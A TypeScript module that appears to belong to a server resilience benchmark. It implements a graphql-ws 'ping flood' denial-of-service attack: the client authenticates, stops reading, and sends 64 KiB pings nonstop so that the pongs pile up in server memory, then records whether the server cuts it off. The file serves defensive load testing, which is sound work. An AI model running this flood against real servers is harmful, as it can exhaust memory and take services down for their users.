import WebSocket from 'ws';
import { sleep } from '../lib/stats.js';
import { Tally } from './api.js';
import type { Attack } from './context.js';

/**
 * Attack 3 (issue 11, item 4; review M1): a graphql-ws client that sends 64 KiB pings as fast as
 * its socket takes them and never reads, so each pong the server echoes waits in the server's
 * memory. The client keeps at most SEND_AHEAD bytes in its own buffer (the flood is the
 * server's to hold, not the benchmark's).
 */

const PAYLOAD = JSON.stringify({ type: 'ping', payload: { p: 'x'.repeat(64 * 1024 - 40) } });
const SEND_AHEAD = 8 << 20;

export function pingFloodAttack(): Attack {
  return {
    label: 'ping flood',
    name: 'graphql-ws ping flood, 64 KiB payloads, from a client that never reads',
    async run(ctx, signal) {
      const tally = new Tally();
      const ws = new WebSocket(`${ctx.url.replace(/^http/, 'ws')}/graphql`, 'graphql-transport-ws');
      let closed: string | null = null;
      let sent = 0;
      const done = new Promise<void>((resolve) => {
        ws.on('close', (code, reason) => ((closed = `closed by the server: ${code} ${String(reason).slice(0, 60)}`.trim()), resolve()));
        ws.on('error', (err) => ((closed ??= `socket error: ${err.message.slice(0, 60)}`), resolve()));
        signal.addEventListener('abort', () => resolve(), { once: true });
      });
      const acked = new Promise<boolean>((resolve) => {
        ws.once('open', () => ws.send(JSON.stringify({ type: 'connection_init', payload: { authorization: `Bearer ${ctx.a.token}` } })));
        ws.once('message', (raw) => resolve(String(raw).includes('connection_ack')));
        ws.once('close', () => resolve(false));
      });
      try {
        if (!(await Promise.race([acked, sleep(10_000).then(() => false)]))) {
          tally.refuse(closed ?? 'no connection_ack');
          return { tally, notes: [] };
        }
        ws.pause(); // from here on nothing is read: every pong stays with the server
        const t0 = performance.now();
        while (!signal.aborted && closed === null) {
          if (ws.bufferedAmount < SEND_AHEAD) {
            ws.send(PAYLOAD);
            sent++;
          } else {
            await sleep(5);
          }
          if (sent % 64 === 0) await sleep(0); // let timers (the window, the bystander) run
        }
        await Promise.race([done, sleep(0)]);
        if (closed) tally.refuse(closed);
        const mib = ((sent * PAYLOAD.length) / 2 ** 20).toFixed(0);
        return { tally, requests: `${sent.toLocaleString('en')} pings (${mib} MiB) in ${((performance.now() - t0) / 1000).toFixed(1)} s`, notes: [] };
      } finally {
        ws.terminate();
      }
    },
  };
}
